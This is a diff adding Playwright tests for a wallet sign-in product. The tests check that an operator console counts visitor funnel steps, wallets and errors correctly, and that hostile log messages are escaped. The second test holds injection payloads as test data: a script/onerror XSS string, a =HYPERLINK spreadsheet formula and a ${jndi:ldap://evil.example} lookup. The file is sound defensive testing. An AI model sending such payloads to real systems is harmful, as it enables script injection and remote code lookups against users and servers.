@@ -1,0 +1,128 @@
+import type { Browser } from '@playwright/test'
+import { rabby } from '../journeys/wallets'
+import { ConnectDialog } from '../pages/ConnectDialog'
+import { HostPage } from '../pages/HostPage'
+import { OperatorPage } from '../pages/OperatorPage'
+import { SignInDialog } from '../pages/SignInDialog'
+import { type LogEntry, noteLog } from '../rules/log'
+import { alice, keys } from '../signIn/keys'
+import { expect, test as signIn } from '../signIn/test'
+import { installWallet } from '../wallet/installWallet'
+
+type Wanted = Parameters<typeof installWallet>[1]
+type Visitor = { host: HostPage; dialog: ConnectDialog; sign: SignInDialog; told: () => readonly LogEntry[] }
+
+/** The real thing: real visitors, a real server, a real operator. */
+const test = signIn.extend<{ visitor: (wallet?: Wanted) => Promise<Visitor>; console: OperatorPage }>({
+  settings: { mode: 'optional', operators: [alice] },
+  ownSite: true,
+  visitor: async ({ browser, site }, use) => {
+    const contexts: Awaited<ReturnType<Browser['newContext']>>[] = []
+    await use(async (wallet) => {
+      const context = await browser.newContext({ baseURL: site.origin })
+      contexts.push(context)
+      const entries = noteLog(context)
+      const page = await context.newPage()
+      if (wallet) await installWallet(page, wallet)
+      const [host, dialog, sign] = [new HostPage(page), new ConnectDialog(page), new SignInDialog(page)]
+      await host.visitAndOpen()
+      return { host, dialog, sign, told: () => entries }
+    })
+    for (const context of contexts) await context.close()
+  },
+  console: async ({ page }, use) => use(new OperatorPage(page)),
+})
+
+const steps = ['opened', 'wallet_chosen', 'requested', 'connected', 'signed_in']
+
+/** What was sent, counted anew: a flow once a step. */
+const recount = (entries: readonly LogEntry[]): number[] =>
+  steps.map((step) => new Set(entries.filter((entry) => entry.step === step).map(({ flow }) => flow)).size)
+
+const until = async ({ told }: Visitor, step: string) => {
+  await expect.poll(() => told().map((entry) => entry.step)).toContain(step)
+}
+
+test('What visitors did is what the operator sees: counts, wallets, errors, and the next one by itself', async ({
+  page,
+  console,
+  dialog,
+  sign,
+  visitor,
+}) => {
+  test.slow()
+  const connected = { ...rabby, keys: [keys[1]] }
+  const looks = await visitor()
+  await until(looks, 'opened')
+  const connects = await visitor(connected)
+  await connects.dialog.chooses('Rabby Wallet')
+  await until(connects, 'connected')
+  const signs = await visitor(connected)
+  await signs.dialog.chooses('Rabby Wallet')
+  await until(signs, 'connected')
+  await signs.host.opensAccount()
+  await signs.host.page.getByRole('button', { name: 'Sign in', exact: true }).click()
+  await signs.sign.signIn.click()
+  await until(signs, 'signed_in')
+  const refuses = await visitor({ ...connected, behaviour: { connect: 'reject' } })
+  await refuses.dialog.chooses('Rabby Wallet')
+  await until(refuses, 'failed')
+  const sent = [looks, connects, signs, refuses].flatMap(({ told }) => told())
+
+  await installWallet(page, { ...rabby, keys: [keys[0]] })
+  await console.signsInAtTheGate(dialog, sign)
+  await console.shows()
+  expect(recount(sent)).toEqual([4, 3, 3, 2, 1])
+  const funnel = console.table('From open to signed in').getByRole('row')
+  for (const [place, count] of recount(sent).entries())
+    await expect(
+      funnel
+        .nth(place + 1)
+        .getByRole('cell')
+        .first(),
+    ).toHaveText(String(count))
+  await expect(console.row('Wallets and methods', /^Rabby Wallet Browser 3 67%/)).toBeVisible()
+  await expect(console.row('What went wrong', /WALLET\/REJECTED|wallet\/rejected/i)).toHaveText(/1/)
+  await expect(console.feed).toContainText('Signed in')
+
+  // Somebody else connects while the operator looks on.
+  const before = await console.entries.count()
+  const next = await visitor(connected)
+  await next.dialog.chooses('Rabby Wallet')
+  await until(next, 'connected')
+  await expect.poll(() => console.entries.count()).toBeGreaterThanOrEqual(Math.min(before + 3, 9))
+
+  const sheet = await page.request.get('/api/console/export.csv?range=24h&what=funnel')
+  expect(await sheet.text()).toMatch(/"opened",5\s+"wallet_chosen",4\s+"requested",4\s+"connected",3\s+"signed_in",1/)
+})
+
+test('What a stranger sends is shown as text, and nothing of it runs', async ({
+  page,
+  console,
+  dialog,
+  sign,
+  site,
+}) => {
+  const hostile = [
+    '<script>document.title="owned"</script><img src=x onerror="document.title=\'owned\'">',
+    '=HYPERLINK("https://evil.example","click")',
+    '\u001b[31mred\u001b[0m \u0024{jndi:ldap://evil.example/a}',
+  ]
+  for (const message of hostile) {
+    const form = { level: 'error', code: 'CLIENT_FETCH_ERROR', message, stack: message, name: message, client: 'true' }
+    const answer = await page.request.post(`${site.origin}/api/auth/_log`, { form })
+    expect(answer.status()).toBe(200)
+  }
+  await installWallet(page, { ...rabby, keys: [keys[0]] })
+  await console.signsInAtTheGate(dialog, sign)
+  await console.shows()
+  const row = console.row('What went wrong', /CLIENT_FETCH_ERROR/i)
+  await expect(row).toContainText('3')
+  await row.getByRole('button').click()
+  await expect(page.getByText('<script>document.title="owned"</script>').first()).toBeVisible()
+  await expect(page.getByText('=HYPERLINK(').first()).toBeVisible()
+  await expect(page).not.toHaveTitle('owned')
+  const sheet = await page.request.get('/api/console/export.csv?range=24h&what=entries')
+  expect(sheet.headers()['content-disposition']).toContain('attachment')
+  expect(await sheet.text()).not.toMatch(/(^|,)"?[=+@-]HYPERLINK/m)
+})
